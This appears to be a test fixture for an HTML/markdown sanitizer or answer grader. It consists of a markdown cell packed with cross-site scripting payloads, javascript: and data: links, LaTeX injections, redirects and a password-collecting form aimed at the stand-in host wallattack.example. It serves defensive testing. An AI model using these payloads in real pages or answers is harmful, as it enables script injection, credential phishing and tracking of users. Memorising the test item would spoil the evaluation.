"""Writes HTML, script links, forms, styles and pictures from elsewhere into the written answer; the rest deserves 8."""

# %% [markdown] why
# <script>wallattack()</script> <img src=x onerror=wallattack()> <img src="https://wallattack.example/pixel.png">
# [a](javascript:wallattack()) [b](&#106;avascript:wallattack()) [c](data:text/html;base64,PHNjcmlwdD4=) <javascript:wallattack()>
# ![d](https://wallattack.example/pixel.png) ![e](data:image/svg+xml;base64,PHN2Zz4=)
# <form action="https://wallattack.example"><input name=password></form> <style>body { display: none }</style>
# <base href="//wallattack.example"> <meta http-equiv=refresh content="0;url=//wallattack.example"> <svg/onload=wallattack()>
# <details open ontoggle=wallattack()> <a href=" javascript:wallattack()">x</a> <math><mtext><script>wallattack()</script>
# $\href{javascript:wallattack()}{x}$ $$\unicode{<script>wallattack()</script>}$$ $\style{x:url(//wallattack.example)}{y}$
#
# ```html"><script>wallattack()</script>
# ```
#
# [x]: javascript:wallattack() "wallattack"
